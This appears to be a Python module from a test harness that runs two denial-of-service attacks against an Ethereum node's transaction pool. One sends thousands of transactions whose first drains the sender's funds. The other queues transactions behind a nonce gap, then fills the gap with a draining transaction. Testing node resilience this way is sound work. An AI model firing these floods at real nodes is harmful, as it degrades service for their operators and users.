"""Attacks by transactions that wait, or can never run."""

from __future__ import annotations

from collections.abc import Sequence

from ..accounts import MAX_FEE, Call, accounts
from . import Attacker, Step, Target

ETHER = 10**18
FEE = 21_000 * MAX_FEE


def frames(raws: Sequence[bytes]) -> bytes:
    """A body for the binary channel."""
    return b"".join(len(raw).to_bytes(4, "big") + raw for raw in raws)


def emptied_senders(target: Target) -> Sequence[Step]:
    """Senders whose first transaction takes away the ether that thousands behind it were to spend."""
    owners = accounts(target.count)
    attackers = iter(range(2, 100))

    def send() -> None:
        index = next(attackers, None)
        if index is None:
            raise RuntimeError("every account of the attackers is empty")
        one = Attacker(target, index)
        balance = int(one.ask("eth_getBalance", "0x" + one.address.hex(), "latest"), 16)
        rest = [Call(index, nonce, owners.address(1), 1, b"", 21_000) for nonce in range(1, 2_000)]
        first = Call(index, 0, owners.address(1), balance - FEE, b"", 21_000)
        body = frames(target.signed([first, *rest]))
        one.connection.send(one.connection.request("/batch", "application/octet-stream", body))

    return [send]


def gaps(target: Target) -> Sequence[Step]:
    """Transactions behind a gap, sent one by one; then the gap is filled by one that takes all ether away."""
    owners = accounts(target.count)
    attackers = iter(range(2, 100))

    def send() -> None:
        index = next(attackers, None)
        if index is None:
            raise RuntimeError("every account of the attackers is empty")
        one = Attacker(target, index)
        balance = int(one.ask("eth_getBalance", "0x" + one.address.hex(), "latest"), 16)
        behind = [Call(index, nonce, owners.address(1), 1, b"", 21_000) for nonce in range(2, 1_026)]
        for raw in target.signed(behind):
            one.ask("eth_sendRawTransaction", "0x" + raw.hex())
        takes = Call(index, 0, owners.address(1), balance - FEE, b"", 21_000)
        body = frames(target.signed([takes, Call(index, 1, owners.address(1), 0, b"", 21_000)]))
        one.connection.send(one.connection.request("/batch", "application/octet-stream", body))

    return [send]
